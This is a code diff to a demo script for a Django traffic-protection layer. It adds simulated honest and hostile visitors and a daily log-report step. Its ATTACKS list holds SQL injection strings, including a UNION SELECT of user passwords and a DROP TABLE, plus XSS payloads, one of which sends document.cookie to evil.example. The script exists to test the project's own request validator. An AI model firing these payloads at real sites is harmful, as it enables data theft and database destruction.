@@ -85,6 +85,10 @@ def traffic() -> list[Actor]:
     scraper = Actor("scraper", "walks /api/items/1, 2, 3 ... after a normal start", "192.0.2.77", ua=BOT)
     flooder = Actor("flooder", "60 requests as fast as it can", "192.0.2.88", ua=BROWSER)
     nobody = Actor("no-UA", "sends no User-Agent at all", "192.0.2.99", ua="")
+    writer = Actor(
+        "writer", "posts tricky but honest comments (O'Brien, SQL questions, HTML)", "198.51.100.30"
+    )
+    injector = Actor("injector", "SQL injection and XSS in bodies and query strings", "192.0.2.44", ua=BOT)
 
     step("alice, bob and an anonymous visitor browse")
     for actor, n, pause in ((alice, 25, 0.0), (bob, 40, 0.15), (visitor, 8, 0.0)):
@@ -122,7 +126,38 @@ def traffic() -> list[Actor]:
     c = nobody.client()
     for _ in range(3):
         nobody.record(c.get("/"))
-    return [alice, bob, visitor, greedy, carol, stuffer, scraper, flooder, nobody]
+    step("a writer posts comments that only look dangerous")
+    c = writer.client()
+    for text in HONEST:
+        writer.record(c.post("/api/comments/", {"text": text}, content_type="application/json"))
+        time.sleep(0.2)
+    step("an injector tries SQL injection and XSS")
+    c = injector.client()
+    for i, payload in enumerate(ATTACKS):
+        if i % 2:
+            injector.record(c.get("/api/items/", {"q": payload}))
+        else:
+            injector.record(c.post("/api/comments/", {"text": payload}, content_type="application/json"))
+        time.sleep(0.2)
+    return [alice, bob, visitor, greedy, carol, stuffer, scraper, flooder, nobody, writer, injector]
+
+
+HONEST = [
+    "Great service from Siobhan O'Brien -- thank you!",
+    "How do I SELECT the newest order per customer? I tried GROUP BY but it's slow.",
+    "<p>Loved it &amp; will <b>buy again</b>; 5 stars</p>",
+    "Is the system prompt of your support bot public? Just curious.",
+    "Tip: run `ls -la` in the export folder, then cd .. to go back.",
+]
+ATTACKS = [
+    "' OR 1=1 --",
+    "1 UNION SELECT username, password FROM users--",
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "'; DROP TABLE orders; --",
+    "<img src=x onerror=alert(1)>",
+    "1' AND SLEEP(5)#",
+    "hello again",
+]
 
 
 def report(actors: list[Actor]) -> None:
@@ -157,6 +192,19 @@ def bans() -> None:
     print(out.getvalue().rstrip())
 
 
+def daily_report() -> None:
+    from io import StringIO
+
+    from django.core.management import call_command
+    from django.utils import timezone
+
+    today = timezone.localdate().isoformat()
+    out = StringIO()
+    call_command("analyse_logs", "--date", today, "--no-ai", stdout=out, stderr=out)
+    print(f"\n$ python manage.py analyse_logs --date {today} --no-ai    (normally: yesterday, with the AI)")
+    print(out.getvalue().rstrip())
+
+
 def main() -> None:
     started = time.monotonic()
     store = os.environ.get("REDIS_URL") or "the embedded fakeredis (set REDIS_URL to use a real Redis)"
@@ -169,11 +217,7 @@ def main() -> None:
     actors = traffic()
     report(actors)
     bans()
-    print()
-    print(
-        "The daily report (manage.py analyse_logs) and the request validator (SQL injection and\n"
-        "friends) arrive with their features; this demo shows rate limits, quotas and bans."
-    )
+    daily_report()
     if os.environ.get("REDIS_URL"):
         from smartlayer.store import get_store
 
